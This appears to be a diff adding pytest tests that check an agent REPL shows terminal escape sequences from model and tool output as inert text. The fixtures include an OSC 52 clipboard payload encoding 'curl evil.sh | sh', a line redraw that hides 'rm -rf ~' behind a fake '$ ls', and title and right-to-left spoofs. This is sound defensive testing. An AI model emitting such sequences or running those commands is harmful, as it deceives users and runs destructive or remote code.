@@ -13,7 +13,7 @@ import pytest
 
 from agentlib import Workspace
 from agentlib.offline import Script, call, offline_client, reply, say
-from agentlib.repl import Session
+from agentlib.repl import Session, visible
 
 
 def agentlib_cli(*args, cwd, stdin=""):
@@ -104,3 +104,47 @@ def test_session_survives_a_failed_call_and_keeps_going(tmp_path):
     assert "Checking.\n$ echo checked\nchecked\nAll good.\n" in out.getvalue()
     assert session.ask("again") is None  # the script has run out: shown, not raised
     assert "Error: The offline script ran out after 2 replies" in out.getvalue()
+
+
+# -- terminal safety: what the model or a tool prints is shown, never obeyed --------------------
+class Terminal(io.StringIO):
+    """An output that says it is a terminal, so the REPL uses its colours."""
+
+    def isatty(self) -> bool:
+        return True
+
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
+TITLE = "\x1b]0;all good\x07"  # set the window title
+REDRAW = "\r\x1b[2K$ ls"  # go back and overwrite the shown command line
+
+
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        (CLIPBOARD, "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"),
+        (REDRAW, "\\r\\x1b[2K$ ls"),
+        ("bell\x07 del\x7f csi\x9b", "bell\\x07 del\\x7f csi\\x9b"),
+        ("abc\u202edcba", "abc\\u202edcba"),  # a right-to-left override reorders the display
+        ("tabs\tand\nnewlines stay", "tabs\tand\nnewlines stay"),
+        ("ünïcödé and emoji 🎉 stay", "ünïcödé and emoji 🎉 stay"),
+    ],
+)
+def test_visible_shows_control_characters_instead_of_obeying_them(raw, shown):
+    assert visible(raw) == shown
+
+
+def test_the_repl_prints_model_and_tool_text_inert_but_keeps_its_own_colours(tmp_path):
+    hostile = f"{TITLE}Done.{CLIPBOARD}"
+    command = "printf 'rm -rf ~\\r\\033[2K$ ls\\n'"
+    script = Script(reply(hostile, call("bash", command=command + " # \x1b[8mhidden")), say("Ok."))
+    client, model = offline_client(script)
+    out = Terminal()
+    Session("s01", client, model, Workspace(tmp_path), out).ask("go")
+    shown = out.getvalue()
+    ours = re.sub(r"\x1b\[[0-9;]*m", "", shown)  # take away the REPL's own colour codes
+    assert not any(ch in ours for ch in "\x1b\x07\r\x9b")  # nothing left for the terminal to obey
+    assert "\x1b[33m$ printf" in shown  # the call line keeps its colour
+    assert "\\x1b]0;all good\\x07Done.\\x1b]52;c;" in ours
+    assert "rm -rf ~\\r\\x1b[2K$ ls" in ours  # the redraw shows what really ran
+    assert "# \\x1b[8mhidden" in ours
